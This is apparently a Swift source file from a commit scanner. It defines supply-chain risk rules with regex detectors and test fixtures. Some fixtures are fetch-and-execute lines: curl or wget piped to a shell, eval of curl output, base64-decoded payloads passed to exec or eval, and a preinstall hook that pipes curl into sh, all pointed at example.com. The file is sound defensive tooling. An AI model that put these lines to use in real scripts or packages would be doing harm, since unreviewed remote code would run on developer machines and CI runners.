// Remote code and supply chain: code fetched and run at once, decoded payloads executed, install
// hooks, dependencies from outside a registry, changed registries, and lockfiles that moved
// without their manifest.

import GateCore

extension RiskRules {
  static var supplyChainChangeRules: [any ChangeRule] { [LockfileWithoutManifest()] }

  static var supplyChainLineRules: [PatternRule] {
    [
      PatternRule(
        id: "supply-chain-dependency-from-url", category: .risk,
        description: "A dependency is taken from a Git repository, URL or local path instead of a registry.",
        severity: .medium,
        keywords: ["git", "http", "file:", "link:", "=>"],
        pattern:
          #"(?m)"(?!(?:homepage|url|repository|bugs|funding|author|license|\$schema|email|web|registry|main|types|module)")[@\w./-]+"\h*:\h*"(?:git\+(?:https?|ssh|file)://|git://|github:|gitlab:|bitbucket:|https?://|file:|link:)|^\h*(?:-e\h+)?(?:git|hg|svn|bzr)\+(?:https?|ssh|file)://|^\h*https?://\S+\.(?:whl|tar\.gz|zip)\b|\S\h*@\h*(?:git\+|https?://)|\bgit\h*=\h*"(?:https?|ssh|git)://|^\h*(?:replace\h+)?[\w./-]+(?:\h+v[\w.+-]+)?\h*=>\h*\S+|\b(?:git|github)\h*:\h*["']|:git\h*=>"#,
        paths: [
          #"(?:^|/)(?:package\.json|requirements[^/]*\.(?:txt|in)|constraints[^/]*\.txt|pyproject\.toml|setup\.py|setup\.cfg|Pipfile|Cargo\.toml|go\.mod|Gemfile|[^/]+\.gemspec)$"#
        ],
        message:
          "a dependency now comes from a Git repository, URL or path: it bypasses the registry's immutability "
          + "and the lockfile's integrity hashes may not cover it. Check the source and pin a version or commit",
        positives: [
          RuleExample(#"    "left-pad": "git+https://github.com/someone/left-pad.git","#, path: "package.json"),
          RuleExample(#"    "utils": "github:someone/utils#main","#, path: "package.json"),
          RuleExample(#"    "lib": "https://example.com/lib-1.0.0.tgz""#, path: "web/package.json"),
          RuleExample("git+https://github.com/someone/pkg.git@main#egg=pkg", path: "requirements.txt"),
          RuleExample(#"  "pkg @ git+https://github.com/someone/pkg.git","#, path: "pyproject.toml"),
          RuleExample(#"serde = { git = "https://github.com/someone/serde" }"#, path: "Cargo.toml"),
          RuleExample("replace golang.org/x/crypto => github.com/someone/crypto v0.1.0", path: "go.mod"),
          RuleExample(#"gem "rails", git: "https://github.com/someone/rails""#, path: "Gemfile"),
        ],
        negatives: [
          RuleExample(#"    "left-pad": "^1.3.0","#, path: "package.json"),
          RuleExample(#"  "homepage": "https://example.com","#, path: "package.json"),
          RuleExample(#"  "repository": "github:acme/app","#, path: "package.json"),
          RuleExample("requests==2.32.3", path: "requirements.txt"),
          RuleExample(#"serde = { version = "1.0", features = ["derive"] }"#, path: "Cargo.toml"),
          RuleExample("require golang.org/x/crypto v0.31.0", path: "go.mod"),
          RuleExample(#"    "test": "jest --coverage","#, path: "package.json"),
        ]),
      PatternRule(
        id: "supply-chain-eval-remote-code", category: .risk,
        description: "Downloaded or decoded data is evaluated or executed as code.",
        severity: .high,
        keywords: [
          "$(curl", "$( curl", "$(wget", "`curl", "`wget", "b64decode", "codecs.decode", "zlib.decompress",
          "marshal.loads", "fromhex", "requests.get", "urlopen", "__import__", "atob", "unescape",
          "decodeuricomponent", "buffer.from", "fromcharcode", "base64_decode", "gzinflate", "gzuncompress",
          "str_rot13", "base64 -d", "base64 --decode", "base64 -d",
        ],
        pattern:
          #"\beval\h+["']?\$\(\h*(?:curl|wget)\b|\beval\h+["']?`\h*(?:curl|wget)\b|\b(?:exec|eval)\h*\(\h*(?:base64\.b64decode|codecs\.decode|zlib\.decompress|marshal\.loads|bytes\.fromhex|requests\.get|urllib\.request\.urlopen|urlopen|__import__\(\h*["']base64)|\b(?:eval|Function)\h*\(\h*(?:atob|unescape|decodeURIComponent|Buffer\.from|String\.fromCharCode)\h*\(|\bnew\h+Function\h*\(\h*(?:atob|Buffer\.from)\b|\beval\h*\(\h*(?:base64_decode|gzinflate|gzuncompress|str_rot13)\h*\(|\bbase64\h+(?:-d|--decode|-D)\b[^\n]*\|\h*(?:sudo\h+)?(?:ba|z|da)?sh\b"#,
        message:
          "the commit runs code it decodes or downloads at run time, so what runs is not in the repository "
          + "and cannot be reviewed: check what the payload is and where it comes from",
        positives: [
          RuleExample(#"eval "$(curl -fsSL https://example.com/env.sh)""#, path: "scripts/setup.sh"),
          RuleExample("exec(base64.b64decode(PAYLOAD))", path: "app/boot.py"),
          RuleExample("eval(atob(data));", path: "src/loader.js"),
          RuleExample("const f = Function(atob(s)); f();", path: "src/loader.js"),
          RuleExample("exec(requests.get(url).text)", path: "app/plugin.py"),
          RuleExample("echo $BLOB | base64 -d | sh", path: "install.sh"),
          RuleExample("<?php eval(base64_decode($x)); ?>", path: "index.php"),
        ],
        negatives: [
          RuleExample("data = base64.b64decode(payload)", path: "app/codec.py"),
          RuleExample("eval \"$(ssh-agent -s)\"", path: "scripts/setup.sh"),
          RuleExample("const text = atob(encoded);", path: "src/codec.js"),
          RuleExample("exec(compile(source, path, 'exec'))", path: "tools/run.py"),
        ]),
      PatternRule(
        id: "supply-chain-install-hook", category: .risk,
        description: "A package install hook was added (npm pre/post/install scripts, setup.py cmdclass).",
        severity: .medium,
        keywords: ["install", "cmdclass"],
        pattern: #"(?m)^\h*"(?:pre|post)?install"\h*:\h*"|\bcmdclass\b"#,
        paths: [#"(?:^|/)(?:package\.json|setup\.py|setup\.cfg|pyproject\.toml)$"#],
        message:
          "the commit adds code that runs automatically when the package is installed, on every developer "
          + "machine and CI runner: check exactly what it runs",
        positives: [
          RuleExample(#"    "postinstall": "node scripts/setup.js","#, path: "package.json"),
          RuleExample(#"    "preinstall": "curl https://example.com/x | sh","#, path: "package.json"),
          RuleExample(#"    "install": "node-gyp rebuild""#, path: "native/package.json"),
          RuleExample("    cmdclass={'install': PostInstall},", path: "setup.py"),
        ],
        negatives: [
          RuleExample(#"    "test": "jest","#, path: "package.json"),
          RuleExample(#"    "install-deps": "npm ci","#, path: "package.json"),
          RuleExample(#"    "postinstall": "node x.js""#, path: "docs/example.md"),
        ]),
      PatternRule(
        id: "supply-chain-pipe-to-shell", category: .risk,
        description: "A script downloaded from the network is piped straight into a shell or interpreter.",
        severity: .high,
        keywords: ["curl", "wget", "iwr ", "irm ", "invoke-webrequest", "invoke-restmethod", "iex"],
        pattern:
          #"(?i)\b(?:(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b(?:[^\n|]*+\|)+?\h*(?:sudo\h+(?:-\S+\h+)*)?(?:env\h+(?:\w+=\S*\h+)*)?(?:/usr/bin/env\h+|/bin/|/usr/bin/)?(?:(?:ba|z|k|da|fi|c|tc)?sh|python[0-9.]*|perl|ruby|node|php|iex|invoke-expression)\b(?![.-])|(?:ba|z)?sh\h+<\(\h*(?:curl|wget)\b|(?:source|\.)\h+<\(\h*(?:curl|wget)\b|(?:ba|z)?sh\h+-c\h+["']?\$\(\h*(?:curl|wget)\b|iex\h*\(\h*(?:iwr|irm|invoke-webrequest|invoke-restmethod|\(?new-object\h+net\.webclient\)?))"#,
        message:
          "the commit runs a script straight from the network: nothing checks what the server sends (today or "
          + "tomorrow). Download it, verify a checksum or signature, then run the verified file",
        positives: [
          RuleExample("curl -fsSL https://example.com/install.sh | sh", path: "scripts/setup.sh"),
          RuleExample("RUN curl -sL https://deb.example.com/setup | sudo -E bash -", path: "Dockerfile"),
          RuleExample("wget -qO- https://example.com/get | bash", path: "Makefile"),
          RuleExample("bash <(curl -s https://example.com/bootstrap)", path: "bootstrap.sh"),
          RuleExample("curl https://example.com/get-pip.py | python3", path: "ci/setup.sh"),
          RuleExample("iex (iwr https://example.com/install.ps1 -UseBasicParsing)", path: "install.ps1"),
        ],
        negatives: [
          RuleExample(
            "curl -fsSLO https://example.com/tool.tgz && echo \"$SHA  tool.tgz\" | sha256sum -c -",
            path: "scripts/setup.sh"),
          RuleExample("curl -fsSL https://example.com/tool.tgz | tar xz", path: "scripts/setup.sh"),
          RuleExample("curl -s https://api.example.com/v1/items | jq .", path: "scripts/list.sh"),
          RuleExample("wget https://example.com/file.zip", path: "Makefile"),
          RuleExample("curl -s localhost:8080/health | shasum", path: "scripts/check.sh"),
        ]),
      PatternRule(
        id: "supply-chain-registry-changed", category: .risk,
        description: "The package registry, index or checksum verification of a package manager was changed.",
        severity: .medium,
        keywords: [
          "registry", "index-url", "replace-with", "[source.", "[[tool.", "goproxy", "gosumdb", "gonosumdb",
          "goinsecure", "goflags", "gonosumcheck",
        ],
        pattern:
          #"(?m)^\h*(?:@[\w.-]+:)?registry\h*=\h*["']?(?!https://registry\.npmjs\.org/?["']?\h*$|https://registry\.yarnpkg\.com/?["']?\h*$)https?://|\b(?:npm|yarn|pnpm)\h+config\h+set\h+(?:@[\w.-]+:)?registry\b|--registry[=\h]+(?!https://registry\.npmjs\.org)https?://|\bnpmRegistryServer\h*:|(?:--|\b)(?:extra-)?index-url\b(?!\h*[=\h]\h*["']?https://pypi\.org/simple/?["']?\h*$)|\breplace-with\h*=|^\h*\[source\.[\w.-]+\]|^\h*\[\[tool\.(?:poetry\.source|uv\.index|pdm\.source)\]\]|\bGOPROXY=(?!["']?https://proxy\.golang\.org(?:,direct)?["']?(?:\h|$))|\bGO(?:NO)?SUMDB=|\bGONOSUMCHECK=|\bGOINSECURE=|\bGOFLAGS=[^\n]*-insecure"#,
        paths: [
          #"(?i)(?:^|/)(?:\.npmrc|\.yarnrc(?:\.ya?ml)?|\.pnpmrc|pip\.(?:conf|ini)|requirements[^/]*\.(?:txt|in)|constraints[^/]*\.txt|pyproject\.toml|uv\.toml|poetry\.toml|config(?:\.toml)?|Dockerfile[^/]*|[^/]*\.dockerfile|Makefile|[^/]*\.mk|[^/]*\.(?:sh|bash|zsh)|\.gitlab-ci\.ya?ml|go\.env|package\.json)$|^\.github/workflows/"#
        ],
        message:
          "the commit points a package manager at a different registry or index, or turns off its checksum "
          + "database: every dependency could now come from elsewhere. Check the new source is trusted",
        positives: [
          RuleExample("registry=https://npm.example.com/", path: ".npmrc"),
          RuleExample("@acme:registry=https://npm.acme.dev/", path: ".npmrc"),
          RuleExample("--extra-index-url https://pypi.example.com/simple", path: "requirements.txt"),
          RuleExample("index-url = https://mirror.example.com/simple", path: "pip.conf"),
          RuleExample(#"replace-with = "vendored-sources""#, path: ".cargo/config.toml"),
          RuleExample("ENV GOPROXY=https://proxy.example.com GOSUMDB=off", path: "Dockerfile"),
          RuleExample("[[tool.poetry.source]]", path: "pyproject.toml"),
        ],
        negatives: [
          RuleExample("registry=https://registry.npmjs.org/", path: ".npmrc"),
          RuleExample("save-exact=true", path: ".npmrc"),
          RuleExample("requests==2.32.3", path: "requirements.txt"),
          RuleExample("registry = Registry()", path: "app/config.py"),
          RuleExample(#"REGISTRY ?= ghcr.io/acme"#, path: "Makefile"),
        ]),
    ]
  }
}

/// A lockfile changed while no manifest of its ecosystem changed in the same commit.
struct LockfileWithoutManifest: ChangeRule {
  let id = "supply-chain-lockfile-without-manifest"
  let description = "A dependency lockfile changed without any change to its manifest."
  let severity = Severity.medium

  /// Lockfile name -> manifest names of the same ecosystem.
  static let ecosystems: [String: Set<String>] = [
    "package-lock.json": ["package.json"], "npm-shrinkwrap.json": ["package.json"], "yarn.lock": ["package.json"],
    "pnpm-lock.yaml": ["package.json", "pnpm-workspace.yaml"], "bun.lockb": ["package.json"],
    "bun.lock": ["package.json"], "Cargo.lock": ["Cargo.toml"], "poetry.lock": ["pyproject.toml"],
    "uv.lock": ["pyproject.toml"], "pdm.lock": ["pyproject.toml"], "Pipfile.lock": ["Pipfile"],
    "Package.resolved": ["Package.swift", "project.pbxproj"], "go.sum": ["go.mod"], "Gemfile.lock": ["Gemfile"],
    "composer.lock": ["composer.json"], "packages.lock.json": [],
    "gradle.lockfile": ["build.gradle", "build.gradle.kts"],
  ]

  func evaluate(_ change: CommitChange) -> [Finding] {
    // Most commits change no lockfile: the names of every file are gathered only when one does.
    guard change.files.contains(where: { $0.status != .deleted && PathGate.mayBeLockfile($0.path) }) else {
      return []
    }
    let names = Set(change.files.map { RiskPath.basename($0.path) })
    let csproj = change.files.contains { RiskPath.ext($0.path) == "csproj" }
    return change.files.compactMap { file in
      guard file.status != .deleted else { return nil }
      let name = RiskPath.basename(file.path)
      guard let manifests = Self.ecosystems[name] else { return nil }
      if !manifests.isDisjoint(with: names) || (name == "packages.lock.json" && csproj) { return nil }
      return riskFinding(
        rule: id, severity: severity, change: change, path: file.path, match: "\(name) without manifest",
        message:
          "the lockfile changed but no manifest did: nothing asked for new dependencies, so check every "
          + "changed version, resolved URL and integrity hash in it")
    }
  }

  var positives: [ChangeExample] {
    [
      ChangeExample(
        "npm lock alone", ChangeFixture.commit(.modified("package-lock.json", added: [#""resolved": "https://x""#]))),
      ChangeExample("cargo lock alone", ChangeFixture.commit(.modified("Cargo.lock", added: ["version = \"1.0.1\""]))),
      ChangeExample(
        "go.sum with source",
        ChangeFixture.commit(.modified("go.sum", added: ["h1:x"]), .modified("main.go", added: ["x"]))),
      ChangeExample(
        "swiftpm resolved", ChangeFixture.commit(.modified("Package.resolved", added: [#""revision": "abc""#]))),
    ]
  }

  var negatives: [ChangeExample] {
    [
      ChangeExample(
        "with manifest",
        ChangeFixture.commit(
          .modified("package.json", added: [#""x": "1""#]), .modified("package-lock.json", added: ["{}"]))),
      ChangeExample(
        "go mod and sum",
        ChangeFixture.commit(.modified("go.mod", added: ["require x v1"]), .modified("go.sum", added: ["h1"]))),
      ChangeExample("lock deleted", ChangeFixture.commit(.deleted("yarn.lock"))),
      ChangeExample("manifest only", ChangeFixture.commit(.modified("Cargo.toml", added: ["x = \"1\""]))),
    ]
  }
}
